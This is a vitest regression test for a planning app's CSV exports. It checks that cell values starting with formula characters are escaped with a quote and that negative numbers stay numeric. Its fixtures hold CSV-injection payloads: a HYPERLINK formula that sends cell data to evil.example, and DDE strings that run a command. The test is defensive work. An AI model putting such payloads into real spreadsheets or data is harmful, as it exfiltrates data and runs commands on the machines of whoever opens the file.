import { describe, expect, it } from "vitest";
import { readCsv } from "../../shared/accounts/csv.ts";
import { square } from "../fixtures/shapes.ts";
import { type CreatedPlan, createPlanWithLinks, useServer } from "./harness.ts";

/**
 * Issue 9: CSV exports wrote `=HYPERLINK(…)`, `@SUM(…)` and `-2+3+cmd|…`
 * verbatim, which a spreadsheet runs as formulas when the file is opened.
 */
const server = useServer();

function call(plan: CreatedPlan, method: string, path: string, body?: string, type = "application/json") {
  return fetch(`${server.url}/api/plans/${plan.id}${path}`, {
    method,
    headers: { authorization: `Bearer ${plan.tokens.edit}`, "content-type": type },
    body,
  });
}

const EVIL_LINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")';
const DDE = "-2+3+cmd|' /C calc'!A0";

describe("CSV exports and formulas", () => {
  it("writes names that would run as formulas as text, and numbers as numbers", async () => {
    const plan = await createPlanWithLinks(server, "Formulas");
    const territory = {
      type: "Feature",
      id: "t1",
      properties: { name: "@SUM(1+1)*cmd|' /C calc'!A0", reps: [{ name: "=1+1" }] },
      geometry: square(106.7, -6.7, 1),
    };
    expect((await call(plan, "POST", "/territories", JSON.stringify(territory))).status).toBe(201);
    const accounts = [
      "id,name,lat,lon,revenue",
      `A1,"${EVIL_LINK.replaceAll('"', '""')}",-6.5,107.0,-2.5`,
      `A2,${DDE},-6.4,107.1,10`,
      "A3,+62 812 555,-6.3,107.2,1",
      "A4,Toko Maju,-6.2,107.3,1",
    ].join("\n");
    expect((await call(plan, "POST", "/accounts", accounts, "text/csv")).status).toBe(201);

    const assignments = await (await call(plan, "GET", "/assignments.csv")).text();
    const rows = readCsv(assignments, { delimiter: "," }).rows;
    expect(rows.map((r) => r[1])).toEqual([`'${EVIL_LINK}`, `'${DDE}`, "'+62 812 555", "Toko Maju"]);
    expect(rows[0]?.[3]).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(assignments).not.toMatch(/(^|,)[=+@-]/m);

    const metrics = await (await call(plan, "GET", "/metrics.csv")).text();
    const table = readCsv(metrics, { delimiter: "," });
    const row = table.rows[0] as string[];
    const cell = (name: string) => row[table.headers.indexOf(name)];
    expect(cell("name")).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(cell("reps")).toBe("'=1+1");
    // A sum of -2.5 + 10 + 1 + 1 is a number and stays one.
    expect(cell("sum_revenue")).toBe("9.5");
  });

  it("leaves negative numbers alone", async () => {
    const plan = await createPlanWithLinks(server, "Negative");
    const territory = { type: "Feature", id: "t1", properties: { name: "Rugi" }, geometry: square(106.7, -6.7, 1) };
    await call(plan, "POST", "/territories", JSON.stringify(territory));
    await call(plan, "POST", "/accounts", "id,name,lat,lon,revenue\nA1,Toko,-6.5,107.0,-2.5\n", "text/csv");
    const table = readCsv(await (await call(plan, "GET", "/metrics.csv")).text(), { delimiter: "," });
    expect(table.rows[0]?.[table.headers.indexOf("sum_revenue")]).toBe("-2.5");
  });
});
